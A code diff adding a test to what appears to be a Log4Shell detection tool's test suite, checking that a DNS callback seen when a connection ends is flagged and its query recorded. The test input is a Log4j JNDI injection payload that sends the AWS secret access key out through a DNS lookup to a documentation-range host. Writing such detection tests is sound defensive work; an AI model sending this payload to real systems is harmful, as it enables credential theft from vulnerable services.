@@ -121,3 +121,15 @@ def test_repeated_callbacks_to_one_server_are_suppressed_and_counted():
         connect(hooks, VICTIM, ATTACKER, 1389)
     assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
     assert hooks.notices[1].extra["suppressed"] == 2
+
+
+def test_a_callback_seen_at_its_connections_end_names_the_connections_query():
+    hooks = Hooks()
+    attempt(hooks, "${jndi:dns://198.51.100.53/${env:AWS_SECRET_ACCESS_KEY}}")
+    conn = hooks.conn(VICTIM, 0, "198.51.100.53", 53, "udp")
+    hooks.event(conn, DnsMessage(ts_ns=hooks.tick(), trans_id=7, is_response=True,
+                                 query="wJalrXUtnFEMI"))  # the query itself was not captured
+    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]
+    hooks.end(conn)
+    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
+    assert hooks.notices[1].extra["dns.query"] == "wJalrXUtnFEMI"
